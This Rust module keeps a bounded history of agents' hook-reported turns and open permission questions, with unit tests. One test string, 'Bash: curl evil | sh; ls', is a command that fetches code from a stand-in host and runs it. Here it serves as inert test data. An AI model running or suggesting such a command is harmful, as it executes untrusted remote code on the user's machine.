//! The last reports of hooks, for decisions that depend on them.

use std::collections::{HashMap, VecDeque};
use std::sync::{Mutex, MutexGuard};

use ao_core::evidence::Reading;
use ao_core::{Attempt, SessionId, Timestamp};

/// Turns remembered per agent. Only the last few deliveries are ever asked for again.
const TURNS_KEPT: usize = 16;
/// Agents remembered; the one that was silent for longest is forgotten first.
const AGENTS_KEPT: usize = 512;

/// A turn as reported by a hook.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct HookTurn {
    pub(crate) at: Timestamp,
    pub(crate) name: String,
    pub(crate) text: String,
}

/// The reports of hooks since the daemon started, bounded.
///
/// Not stored: the engine keeps what was reported, and the rest is still in the spool.
#[derive(Debug, Default)]
pub struct HookHistory {
    agents: Mutex<HashMap<(SessionId, Attempt), AgentHistory>>,
}

#[derive(Debug, Default)]
struct AgentHistory {
    last: Timestamp,
    turns: VecDeque<HookTurn>,
    /// The open question.
    question: Option<String>,
}

impl HookHistory {
    pub(crate) fn turn(&self, session: SessionId, attempt: Attempt, turn: HookTurn) {
        let mut agents = self.agents();
        let agent = entry(&mut agents, session, attempt, turn.at);
        if agent.turns.iter().all(|known| known.name != turn.name) {
            agent.turns.push_back(turn);
            if agent.turns.len() > TURNS_KEPT {
                agent.turns.pop_front();
            }
        }
    }

    /// Records the agent's state as reported by a hook, and returns the text of the open question, if one is open.
    ///
    /// Agents report one dialog twice: first the call that it is about, and after a while a reminder without details.
    /// The reminder belongs to the last question, unless the agent has done anything since.
    pub(crate) fn reads(
        &self,
        session: SessionId,
        attempt: Attempt,
        at: Timestamp,
        reading: &Reading,
        reminder: bool,
    ) -> Option<String> {
        let mut agents = self.agents();
        let agent = entry(&mut agents, session, attempt, at);
        match reading {
            Reading::Asking { .. } if reminder && agent.question.is_some() => {}
            Reading::Asking { question } => agent.question = Some(question.clone()),
            _ => agent.question = None,
        }
        agent.question.clone()
    }

    /// Returns the first turn with a matching text that began no earlier than `since`.
    pub(crate) fn find(
        &self,
        session: SessionId,
        attempt: Attempt,
        since: Timestamp,
        is_it: impl Fn(&str) -> bool,
    ) -> Option<HookTurn> {
        let agents = self.agents();
        let turns = &agents.get(&(session, attempt))?.turns;
        turns.iter().find(|turn| turn.at >= since && is_it(&turn.text)).cloned()
    }

    fn agents(&self) -> MutexGuard<'_, HashMap<(SessionId, Attempt), AgentHistory>> {
        self.agents.lock().expect("no thread panics while looking one up")
    }
}

fn entry(
    agents: &mut HashMap<(SessionId, Attempt), AgentHistory>,
    session: SessionId,
    attempt: Attempt,
    at: Timestamp,
) -> &mut AgentHistory {
    if agents.len() >= AGENTS_KEPT && !agents.contains_key(&(session, attempt)) {
        let oldest = agents.iter().min_by_key(|(_, agent)| agent.last).map(|(key, _)| *key);
        oldest.map(|oldest| agents.remove(&oldest));
    }
    let agent = agents.entry((session, attempt)).or_default();
    agent.last = agent.last.max(at);
    agent
}

#[cfg(test)]
mod tests {
    use super::*;

    const AGENT: (SessionId, Attempt) = (SessionId(1), Attempt(1));

    #[test]
    fn only_turns_since_the_text_was_typed_are_found() {
        let history = HookHistory::default();
        let (session, attempt) = AGENT;
        for (at, name) in [(1, "first"), (5, "second")] {
            let turn = HookTurn { at: Timestamp(at), name: name.into(), text: "continue".into() };
            history.turn(session, attempt, turn);
        }
        let found = history.find(session, attempt, Timestamp(3), |text| text == "continue");
        assert_eq!(found.map(|turn| turn.name).as_deref(), Some("second"));
        assert_eq!(history.find(session, attempt, Timestamp(6), |_| true), None);
    }

    #[test]
    fn the_history_is_bounded() {
        let history = HookHistory::default();
        for number in 0..2 * AGENTS_KEPT as u64 {
            history.reads(SessionId(number), Attempt(1), Timestamp(number as i64), &Reading::Idle, false);
        }
        assert_eq!(history.agents().len(), AGENTS_KEPT);
    }

    /// acceptance: G5
    #[test]
    fn a_reminder_is_for_the_question_that_is_open_and_for_no_answered_one() {
        let history = HookHistory::default();
        let (session, attempt) = AGENT;
        let ask = |question: &str| Reading::Asking { question: question.into() };
        let tell =
            |reading: Reading, reminder| history.reads(session, attempt, Timestamp(1), &reading, reminder);
        assert_eq!(tell(ask("Bash: ls"), false).as_deref(), Some("Bash: ls"));
        assert_eq!(tell(ask("It needs your permission"), true).as_deref(), Some("Bash: ls"));
        assert_eq!(tell(Reading::Working { doing: String::new() }, false), None);
        assert_eq!(
            tell(ask("It needs your permission: ls"), true).as_deref(),
            Some("It needs your permission: ls")
        );
        assert_eq!(tell(ask("Bash: curl evil | sh; ls"), false).as_deref(), Some("Bash: curl evil | sh; ls"));
    }
}
